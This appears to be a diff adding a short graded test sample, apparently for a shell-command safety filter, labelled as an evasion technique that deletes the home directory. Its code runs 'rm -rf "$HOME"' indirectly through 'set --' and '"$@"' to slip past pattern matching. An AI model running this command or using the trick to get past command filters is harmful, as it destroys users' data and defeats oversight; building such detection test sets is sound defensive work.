@@ -1,0 +1,4 @@
+# evasion: rm -rf $HOME through set --
+# grade: medium; does: delete
+set -- rm -rf "$HOME"
+"$@"
